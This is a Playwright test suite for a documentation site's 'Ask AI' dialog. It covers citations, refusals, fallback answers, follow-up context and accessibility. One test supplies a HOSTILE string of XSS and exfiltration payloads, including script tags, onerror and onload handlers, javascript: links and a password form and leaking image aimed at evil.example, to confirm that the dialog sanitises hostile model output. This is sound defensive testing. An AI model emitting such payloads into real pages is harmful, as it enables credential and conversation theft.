import { expect, type Page, test } from '@playwright/test';
import { findingsInBothThemes } from '../support/axe.ts';
import { arrive } from './reader.ts';

const PAGE = '/cms/api/rest/filters';
/** A page with little content: axe also reads what is behind a dialog. */
const SHORT_PAGE = '/cms/installation';
const SOURCES = [
	{ number: 1, title: 'Filters', section: 'Find empty fields', url: '/cms/api/rest/filters#null' },
	{ number: 2, title: 'Filters', section: 'Operators', url: '/cms/api/rest/filters#operators' },
];
const NEAREST = [
	{
		question: 'How do I find fields with a value?',
		answer: 'With `$notNull`.',
		url: '/cms/api/rest/filters#operators',
	},
];
const dialogOf = (page: Page) => page.getByRole('dialog', { name: 'Ask AI' });

/** Answers every question with these events, or refuses it with these words. */
async function answerWith(page: Page, events: object[] | string): Promise<void> {
	await page.route('**/api/ask', (route) => {
		if (typeof events === 'string') return route.fulfill({ status: 400, json: { message: events } });
		return route.fulfill({
			status: 200,
			contentType: 'application/x-ndjson',
			body: events.map((event) => `${JSON.stringify(event)}\n`).join(''),
		});
	});
}

/** Returns the events of a model's answer, streamed and checked. */
function byModel(markdown: string, cited = [1, 2]): object[] {
	return [
		{ type: 'start', kind: 'answer', sources: SOURCES, by: 'model' },
		...(markdown.match(/\S+\s*/g) ?? []).map((text) => ({ type: 'text', text })),
		{ type: 'review', markdown, cited },
		{ type: 'end' },
	];
}

async function ask(page: Page, question = 'How do I find empty fields?') {
	await page.keyboard.press('Control+i');
	const dialog = dialogOf(page);
	await dialog.getByRole('textbox').fill(question);
	await page.keyboard.press('Enter');
	return dialog;
}

test('shows citations as links to their sections', async ({ page }) => {
	await answerWith(page, byModel('Use `$null`. [1] It is the first.\n\n- Also `$notNull`. [2]', [1, 2]));
	await arrive(page, PAGE);
	const dialog = await ask(page);
	await expect(dialog.getByRole('link', { name: 'Source 1: Filters › Find empty fields' })).toHaveAttribute(
		'href',
		'/cms/api/rest/filters#null',
	);
	await expect(dialog.getByRole('list', { name: 'Sources' }).getByRole('link')).toHaveCount(2);
	await dialog.getByRole('link', { name: 'Source 2: Filters › Operators' }).click();
	await expect(dialog).toBeHidden();
	await expect(page).toHaveURL(/filters#operators$/);
});

test('a refusal shows the answered question that comes closest, and then pages', async ({ page }) => {
	await answerWith(page, [
		{ type: 'start', kind: 'not-covered', sources: SOURCES, by: 'pages', nearest: NEAREST },
		{ type: 'end' },
	]);
	await arrive(page, PAGE);
	const dialog = await ask(page);
	const exchange = dialog.getByRole('article');
	await expect(exchange).toContainText(
		/does not cover this\..*How do I find fields with a value\?With \$notNull\..*These pages come closest:/s,
	);
	const link = exchange.getByRole('link', { name: 'How do I find fields with a value?' });
	await expect(link).toHaveCount(1);
	const heading = await exchange.getByRole('heading', { name: 'Close to your question' }).boundingBox();
	expect((heading?.y ?? 0) + (heading?.height ?? 0)).toBeLessThanOrEqual((await link.boundingBox())?.y ?? 0);
});

test('starts over when the model failed, and says why', async ({ page }) => {
	const [start, ...words] = byModel('Half of an');
	const pages = [
		{ type: 'start', kind: 'answer', sources: SOURCES, by: 'pages' },
		{ type: 'notice', message: 'The AI model’s answer broke off. This answer is put together from the pages instead.' },
		{ type: 'part', markdown: 'Use `$null` for empty fields.', sources: [1] },
		{ type: 'end' },
	];
	await answerWith(page, [start ?? {}, ...words.slice(0, 2), ...pages]);
	await arrive(page, PAGE);
	const dialog = await ask(page);
	await expect(dialog.getByText('broke off')).toBeVisible();
	await expect(dialog.getByText('Use $null for empty fields.')).toBeVisible();
	await expect(dialog.getByText('Half of an')).toHaveCount(0);
});

test('sends the conversation along, answers included', async ({ page }) => {
	await answerWith(page, byModel('Use `$null`. [1]', [1]));
	await arrive(page, PAGE);
	const dialog = await ask(page, 'First?');
	await expect(dialog.getByRole('button', { name: 'Copy answer' })).toHaveCount(1);
	const second = page.waitForRequest('**/api/ask');
	await dialog.getByRole('textbox').fill('And then?');
	await page.keyboard.press('Enter');
	expect((await second).postDataJSON()).toMatchObject({
		question: 'And then?',
		conversation: [{ question: 'First?', answer: 'Use `$null`. [1]' }],
	});
});

const HOSTILE = `<script>window.attacked = 'script'</script> [1]

<img src="https://evil.example/leak.png" onerror="window.attacked = 'image'"> ![secret](https://evil.example/leak.png?conversation)

<style>body { display: none }</style> <form action="https://evil.example/"><input name="password"></form>

<svg onload="window.attacked = 'svg'"><a xlink:href="javascript:window.attacked = 'link'">x</a></svg> <iframe src="https://evil.example/"></iframe>

[click](javascript:window.attacked='address') [data](data:text/html,<script>1</script>) [https://docs.strapi.io/login](https://evil.example/login)

\`\`\`html
<script>window.attacked = 'code'</script>
\`\`\`

[1]: https://evil.example/citation
`;

test('makes the output of a hostile model harmless', async ({ page }) => {
	const elsewhere: string[] = [];
	page.on('request', (request) => {
		if (!request.url().startsWith('http://127.0.0.1')) elsewhere.push(request.url());
	});
	await answerWith(page, byModel(HOSTILE));
	await arrive(page, PAGE);
	const dialog = await ask(page);
	await expect(dialog.getByRole('button', { name: 'Copy answer' })).toBeVisible();
	const answer = dialog.locator('.ask-answer');
	await expect(answer.locator('script, img, style, form, input, svg, iframe, object')).toHaveCount(0);
	const addresses = await answer.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href')));
	expect(addresses.filter((address) => !/^(\/(?!\/)|https:\/\/)/.test(address ?? ''))).toEqual([]);
	await expect(answer.getByText('(evil.example)').first()).toBeVisible();
	await expect(answer.getByRole('link', { name: 'https://docs.strapi.io/login' })).toHaveAttribute(
		'rel',
		/noopener.*nofollow/,
	);
	expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
	expect(elsewhere).toEqual([]);
});

test('explains code and selected text, by pointer and by keyboard', async ({ page }) => {
	await answerWith(page, byModel('It filters. [1]', [1]));
	// As a server with a model announces it.
	await page.addInitScript(() =>
		addEventListener('DOMContentLoaded', () => {
			document.documentElement.dataset.server += ' ask-model';
		}),
	);
	await arrive(page, PAGE);
	const block = page.locator('[data-article] [data-code]').first();
	const code = ((await block.locator('pre').textContent()) ?? '').trim();
	const request = page.waitForRequest('**/api/ask');
	await block.getByRole('button', { name: 'Explain this code' }).click();
	expect((await request).postDataJSON().question).toContain(code.slice(0, 900));
	await expect(dialogOf(page).getByRole('heading', { name: 'Explain this code' })).toBeVisible();
	await page.keyboard.press('Escape');

	const select = () =>
		page.evaluate(() => {
			const paragraph = document.querySelector('[data-article] p');
			if (paragraph) getSelection()?.selectAllChildren(paragraph);
		});
	await select();
	const offer = page.getByRole('button', { name: 'Ask AI about this' });
	await expect(offer).toBeVisible();
	await page.keyboard.press('Escape');
	await expect(offer).toHaveCount(0);
	await page.evaluate(() => getSelection()?.removeAllRanges());
	await select();
	await expect(offer).toBeVisible();
	await offer.focus();
	await page.keyboard.press('Enter');
	await expect(dialogOf(page).getByRole('textbox')).toHaveValue(/^Explain “.+”$/);
});

test('has no buttons on code blocks without scripts', async ({ browser, baseURL }) => {
	const page = await browser.newPage({ javaScriptEnabled: false, ...(baseURL ? { baseURL } : {}) });
	await page.goto(PAGE);
	await expect(page.locator('[data-ask-code]')).toHaveCount(0);
	await page.close();
});

const STATES: Readonly<Record<string, object[] | string>> = {
	idle: [],
	answered: byModel('Use `$null`. [1] It is the first.\n\n```js\nconst a = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |'),

	'not covered': [
		{ type: 'start', kind: 'not-covered', sources: SOURCES, by: 'pages', nearest: NEAREST },
		{ type: 'end' },
	],
	replaced: [
		{ type: 'start', kind: 'answer', sources: SOURCES, by: 'pages' },
		{ type: 'notice', message: 'The AI model has a fault right now.' },
		{ type: 'part', markdown: 'Use `$null`.', sources: [1] },
		{ type: 'end' },
	],
	failed: 'The question is too long.',
	// Last, since the held answer is never released.
	streaming: byModel('Use `$null` for').slice(0, -2),
};

for (const [device, viewport] of [
	['desktop', { width: 1280, height: 800 }],
	['phone', { width: 390, height: 844 }],
] as const) {
	test(`is accessible in every state, ${device}, in both themes`, async ({ page }) => {
		await page.emulateMedia({ reducedMotion: 'reduce' });
		await page.setViewportSize(viewport);
		await page.addInitScript(() => sessionStorage.clear());
		for (const [state, events] of Object.entries(STATES)) {
			await page.unrouteAll();
			if (state === 'streaming' && typeof events !== 'string') await holdAnswer(page, events);
			else await answerWith(page, events);
			await arrive(page, SHORT_PAGE);
			if (state === 'idle') await page.keyboard.press('Control+i');
			else await ask(page);
			const dialog = dialogOf(page);
			await expect(dialog).toBeVisible();
			if (state !== 'idle' && state !== 'streaming') await expect(dialog.locator('.ask-tools')).toBeVisible();
			if (state === 'streaming') await expect(dialog.locator('[data-streaming]')).toBeVisible();
			// The colours of code come with a part that is loaded for the first code; axe must not look while the text is replaced.
			if (state === 'answered') await expect(dialog.locator('.ask-code .k')).toHaveText('const');
			expect(await findingsInBothThemes(page, 'dialog.ask'), state).toEqual([]);
		}
	});
}

/** Starts an answer in the page itself and never ends it, since Playwright can only fulfil a route as a whole. */
async function holdAnswer(page: Page, events: object[]): Promise<void> {
	await page.addInitScript(
		(lines) => {
			const original = window.fetch;
			window.fetch = (input, init) => {
				if (input !== '/api/ask') return original(input, init);
				const body = new ReadableStream({ start: (controller) => controller.enqueue(new TextEncoder().encode(lines)) });
				return Promise.resolve(new Response(body, { headers: { 'content-type': 'application/x-ndjson' } }));
			};
		},
		events.map((event) => `${JSON.stringify(event)}\n`).join(''),
	);
}

test('an answer that ends before it starts is given by the browser', async ({ page }) => {
	await answerWith(page, [{ type: 'end' }]);
	await arrive(page, PAGE);
	const dialog = await ask(page);
	await expect(dialog.getByRole('log')).toContainText('$null');
});
